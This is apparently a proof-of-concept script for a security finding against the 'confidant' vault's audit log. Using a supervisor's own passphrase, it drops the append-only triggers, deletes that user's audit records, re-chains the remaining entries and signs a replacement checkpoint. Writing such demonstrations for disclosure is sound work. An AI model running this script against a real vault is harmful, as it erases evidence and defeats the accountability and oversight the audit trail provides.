#!/usr/bin/python3
# rewrite-audit.py: finding 4 of issue #17, written from docs/FORMATS.md with
# only the attacker's own passphrase and the vault's files. A supervisor
# unwraps the database key with their own passphrase, drops the audit log's
# append-only triggers, deletes every record of their own, chains the rest
# again ("Canonical encoding and the chain") and replaces every checkpoint
# with one they sign themselves ("Checkpoints").
#
#   rewrite-audit.py VAULT USER PASSPHRASE-FILE
import importlib.util
import os
import sys
import time

import nacl.bindings as sodium

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "confidant_read", os.path.join(here, "..", "reader", "confidant-read.py"))
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)


def quote(value):
    return "'" + value.replace("'", "''") + "'"


def main(argv):
    vault, user_name, passphrase_file = argv[1:4]
    with open(os.path.join(vault, "keyring"), "rb") as f:
        keyring = reader.read_keyring(f.read())
    me = next(u for u in keyring["users"] if u["name"] == user_name)
    with open(passphrase_file, encoding="utf-8") as f:
        passphrase = f.read().split("\n")[0]
    secrets = reader.unwrap_with_passphrase(keyring, me, passphrase)
    db = reader.Database(os.path.join(vault, "vault.db"), secrets["db_key"])

    rows = db.rows("SELECT seq, time, hex(actor), hex(action), hex(object_kind), "
                   "hex(object_id), hex(outcome), hex(authorization), hex(device) "
                   "FROM audit_log ORDER BY seq")
    kept = [r for r in rows if reader.text(r[2]) != me["id"]]
    script = ["DROP TRIGGER audit_log_append_only_update",
              "DROP TRIGGER audit_log_append_only_delete",
              "DROP TRIGGER audit_checkpoints_append_only_delete",
              "DELETE FROM audit_log", "DELETE FROM audit_checkpoints"]
    head = bytes(32)
    for seq, row in enumerate(kept, start=1):
        fields = [reader.text(x) for x in row[2:9]]
        head = reader.blake2b(head + reader.lp("confidant/audit/v1", seq, int(row[1]), *fields))
        script.append("INSERT INTO audit_log (seq, time, actor, action, object_kind, object_id, "
                      "outcome, authorization, device, hash) VALUES (%d, %d, %s, x'%s')"
                      % (seq, int(row[1]), ", ".join(quote(x) for x in fields), head.hex()))
    now = int(time.time() * 1000000)
    message = reader.lp("confidant/audit/checkpoint/v1", keyring["vault_id"], len(kept), now,
                        head, me["id"])
    signature = sodium.crypto_sign(message, secrets["sign_sk"])[:64]
    script.append("INSERT INTO audit_checkpoints (seq, time, head, signer, signature) "
                  "VALUES (%d, %d, x'%s', %s, x'%s')"
                  % (len(kept), now, head.hex(), quote(me["id"]), signature.hex()))
    db.rows(";\n".join(script))
    print("rewritten: %d records of %s removed, %d re-chained, checkpoint signed by %s"
          % (len(rows) - len(kept), me["name"], len(kept), me["name"]))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
